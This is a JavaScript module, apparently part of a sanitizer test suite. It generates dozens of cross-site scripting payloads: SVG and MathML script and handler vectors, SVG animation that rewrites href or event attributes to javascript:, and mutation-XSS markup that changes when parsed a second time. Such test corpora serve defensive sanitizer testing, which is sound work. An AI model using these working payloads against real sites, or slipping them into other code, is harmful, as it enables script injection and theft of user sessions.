// Rows 1, 2 and 4: SVG and MathML, what animation changes later, and markup that becomes other markup when it is parsed
// a second time.

const escaped = (text) => text.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");

export function foreign({ js, to }) {
  const q = escaped(js),
    cases = [];
  const add = (row, name, html) => cases.push({ row, name, html });
  const svg64 = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" id="x"><a xlink:href="javascript:${js}"><rect width="99" height="99"/></a><script>${js}</script></svg>`).toString("base64")}`;

  // ---- foreign content that runs or loads
  add(1, "svg onload", `<svg onload="${q}"><svg/onload=${q}>`);
  add(
    1,
    "svg script",
    `<svg><script>${js}</script><script href="${to("svgscript")}"/><script xlink:href="data:,${q}"/></svg>`,
  );
  add(1, "svg script with entities", `<svg><script>&#x74;op.name='xss'</script></svg>`);
  add(1, "svg use of data", `<svg><use href="${svg64}#x"></use><use xlink:href="${svg64}#x"/></svg>`);
  add(
    1,
    "svg use, scheme broken by a tab and capitals",
    `<svg><use href="dAta:image/s\tvg+xml;base64,${svg64.split(",")[1]}#x"></svg>`,
  );
  add(
    1,
    "svg use from afar",
    `<svg><use href="${to("use")}#x"/><image href="${to("svgimage")}" width=9 height=9 /><image xlink:href="${to("svgimage2")}"/></svg>`,
  );
  add(
    1,
    "svg a, javascript",
    `<svg><a xlink:href="javascript:${q}"><text x=0 y=20>x</text></a><a href="&#1;javascript:${q}"><circle r=40 /></a></svg>`,
  );
  add(
    1,
    "svg foreignObject",
    `<svg><foreignObject><img src=x onerror="${q}"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${q}"></iframe><body onload="${q}"></foreignObject></svg>`,
  );
  add(
    1,
    "svg feImage",
    `<svg><filter id=f><feImage href="${to("feimage")}" xlink:href="${to("feimage2")}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  );
  add(
    1,
    "svg functional references",
    `<svg><rect width=9 height=9 fill="url(${to("fill")})" filter="url(${to("filter")})" mask="url(${to("mask")})" clip-path="url(${to("clip")})" marker-start="url(${to("marker")})" cursor="url(${to("cursor")}),auto" /></svg>`,
  );
  add(
    1,
    "svg style import",
    `<svg><style>@import "${to("svgstyle")}"; * { fill: url(${to("svgstyle2")}) }</style><rect width=9 height=9 /></svg>`,
  );
  add(
    1,
    "svg handler and discard",
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler><discard begin="0s" onbegin="${q}" href="#x"/></svg>`,
  );
  add(
    1,
    "svg in a name space prefix",
    `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="${q}"><svg:script>${js}</svg:script></svg:svg><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  );
  add(
    1,
    "svg font and tref",
    `<svg><font-face-src><font-face-uri xlink:href="${to("svgfont")}"/></font-face-src><tref xlink:href="${to("tref")}"/><text><textPath href="${to("textpath")}#p">x</textPath></text></svg>`,
  );
  add(
    1,
    "svg mpath and pattern",
    `<svg><rect width=9 height=9><animateMotion><mpath href="${to("mpath")}#p"/></animateMotion></rect><pattern href="${to("pattern")}#p"/><linearGradient href="${to("gradient")}#g"/></svg>`,
  );
  add(
    1,
    "svg audio and video",
    `<svg><video xmlns="http://www.w3.org/1999/xhtml" src="${to("svgvideo")}" autoplay></video><audio href="${to("svgaudio")}"/></svg>`,
  );
  add(1, "svg, html ends it and style hides", `<html><svg><style><//><body onload=${q}>`);
  add(
    1,
    "svg desc breaks out",
    `<svg><desc><img src=x onerror="${q}"></desc><title><img src=x onerror="${q}"></title></svg>`,
  );
  add(1, "svg p breaks out", `<svg><p><style><!--</style><img title="--><img src=x onerror=${q}>">`);
  add(
    1,
    "svg set of an element id",
    `<svg><set xlink:href="#top" attributeName="href" to="javascript:${q}"/></svg><a id=top href="#">x</a>`,
  );
  add(
    1,
    "math action",
    `<math><maction actiontype="statusline#http://c.example" xlink:href="javascript:${q}">x<mtext>y</mtext></maction></math>`,
  );
  add(
    1,
    "math href",
    `<math href="javascript:${q}"><mi href="javascript:${q}" xlink:href="javascript:${q}">x</mi></math>`,
  );
  add(
    1,
    "math annotation",
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${q}"><script>${js}</script></annotation-xml></math>`,
  );
  add(
    1,
    "math semantics with svg",
    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><svg onload="${q}"></svg></annotation-xml></semantics></math>`,
  );
  add(
    1,
    "math style and glyph",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${q}&gt;">`,
  );
  add(
    1,
    "math background",
    `<math><mstyle mathbackground="url(${to("mathbg")})"><mi style="background:url(${to("mathbg2")})">x</mi></mstyle><mglyph src="${to("mglyph")}" /></math>`,
  );
  add(
    1,
    "math xml:base",
    `<div xml:base="javascript:${q}//"><a href="#x">x</a></div><math xml:base="${to("base")}"><mi xlink:href="x">y</mi></math>`,
  );

  // ---- what changes later
  for (const element of ["animate", "set", "animateTransform", "animateColor", "animateMotion"]) {
    add(
      2,
      `svg ${element} of href`,
      `<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="#" id=a><text y=20>x</text><${element} attributeName="href" values="javascript:${q}" to="javascript:${q}" from="javascript:${q}" begin="0s" dur="9s" fill="freeze"/><${element} attributeName="xlink:href" values="javascript:${q};x" by="javascript:${q}"/></a></svg>`,
    );
    add(
      2,
      `svg ${element}, handlers`,
      `<svg><rect width=9 height=9><${element} attributeName="x" dur="1ms" begin="0s" to="9" onbegin="${q}" onend="${q}" onrepeat="${q}" repeatCount=2 /></rect></svg>`,
    );
  }
  add(
    2,
    "attributeName with blanks and capitals",
    `<svg><a><animate attributeName=" HREF\n" values="java&#10;script:${q}"/><animate attributename="\thref" to="javascript:${q}"/><text y=9>x</text></a></svg>`,
  );
  add(
    2,
    "animated handler",
    `<svg><rect width=9 height=9><set attributeName="onmouseover" to="${q}"/><set attributeName="onclick" to="${q}"/></rect></svg>`,
  );
  add(
    2,
    "animated style and filter",
    `<svg><rect width=9 height=9><animate attributeName="fill" values="url(${to("anim")});url(${to("anim2")})" dur="1s"/><set attributeName="style" to="fill:url(${to("anim3")})"/><animate attributeName="mask" by="url(${to("anim4")})" dur="1s"/></rect></svg>`,
  );
  add(
    2,
    "animated image",
    `<svg><image width=9 height=9><set attributeName="href" to="${to("animimage")}"/><animate attributeName="xlink:href" values="${to("animimage2")}" dur="1s"/></image></svg>`,
  );
  add(
    2,
    "animation begins on a key",
    `<svg><a href="#x"><animate begin="accessKey(x)" attributeName=href to="javascript:${q}"/><animate begin="click" attributeName=href to="javascript:${q}"/><text y=9>x</text></a></svg>`,
  );

  // ---- parsed twice, other the second time
  const img = `<img src=x onerror=${q}>`;
  add(4, "form in form", `<form><math><mtext></form><form><mglyph><style></math>${img}`);
  add(
    4,
    "nested forms and table",
    `<form id=a><div></form><form id=b><table><mtext><mglyph><style></table>${img}</style></form>`,
  );
  add(
    4,
    "math mtext mglyph malignmark",
    `<math><mtext><mglyph><malignmark><style><!--</style><img title="--&gt;${escaped(img)}">`,
  );
  add(4, "math, comment in an attribute", `<math><mi><style><!--</style><a title="--&gt;${escaped(img)}"></mi></math>`);
  add(
    4,
    "svg style with a comment",
    `<svg><style><a id="</style>${escaped(img)}"></style></svg><svg></p><style><a id="</style><img src=1 onerror=${q}>">`,
  );
  add(4, "svg br style", `<svg></br><style><!--</style><img title="--><img src=x onerror=${q}>">`);
  add(4, "math br title", `<math></p></br><title></math><img title="</title>${escaped(img)}">`);
  add(4, "noscript in a paragraph", `<p><noscript><style></noscript>${img}</style></p>`);
  add(
    4,
    "entities in a title",
    `<svg><title>&lt;/title>${escaped(img)}</title></svg><a title="&lt;/a>&lt;img src=x onerror=${q}>">x</a>`,
  );
  add(4, "backquote attribute", `<img alt="\`\`onerror=${q} " src=x><div title="\`\`onmouseover=${q}">x</div>`);
  add(
    4,
    "deep nesting pushes out",
    `${"<div>".repeat(600)}<table><caption><svg><title><table><caption>${img}</table>${"</div>".repeat(600)}`,
  );
  add(
    4,
    "five hundred and twelve forms of font",
    `${"<font>".repeat(520)}<svg><desc><style><!--</style><img title="--><img src=x onerror=${q}>">`,
  );
  add(4, "table, select and svg", `<table><select><svg><style></select></table>${img}</style></svg>`);
  add(4, "select template", `<select><template><style><!--</template></select><a rel="--></style>${escaped(img)}">`);
  add(4, "xmp in svg", `<svg><xmp><img title="</xmp>${escaped(img)}"></svg><math><xmp><p></math></xmp>${img}`);
  add(4, "textarea in foreign content", `<svg><textarea><title></textarea>${img}</title></svg>`);
  add(4, "iframe in foreign content", `<svg><iframe><a title="</iframe>${escaped(img)}"></svg>`);
  add(
    4,
    "processing instruction in svg",
    `<svg><?xml-stylesheet href="${to("pi")}"?><?x ><img src=x onerror=${q}>?></svg>`,
  );
  add(
    4,
    "CDATA in svg",
    `<svg><![CDATA[><img src=x onerror=${q}>]]></svg><svg><style><![CDATA[</style>${img}]]></style></svg>`,
  );
  add(4, "CDATA in math, HTML after", `<math><![CDATA[<p>]]><style>]]></style>${img}</math>`);
  add(
    4,
    "attributes with slashes and equals",
    `<a/="x"onclick=${q} href=#>x</a><p ="${escaped(img)}">x</p><x/><!-- --=>${img}-->`,
  );
  add(4, "unterminated attribute at the end", `<p>x</p><img src=x alt="${escaped(img)}`);
  add(4, "line and paragraph separators", `<img src=x\u2028onerror="${q}"><a href="java\u2029script:${q}">x</a>`);
  add(
    4,
    "is attribute and slots",
    `<a is="x"><slot name=a onslotchange="${q}">x</slot></a><dl><dt is=svg onload="${q}">`,
  );
  add(
    4,
    "annotation-xml switches back",
    `<math><annotation-xml encoding="text/html"><style><img src="</style>${escaped(img)}"></annotation-xml><mtext><svg><annotation-xml encoding=text/html>${img}`,
  );
  return cases;
}
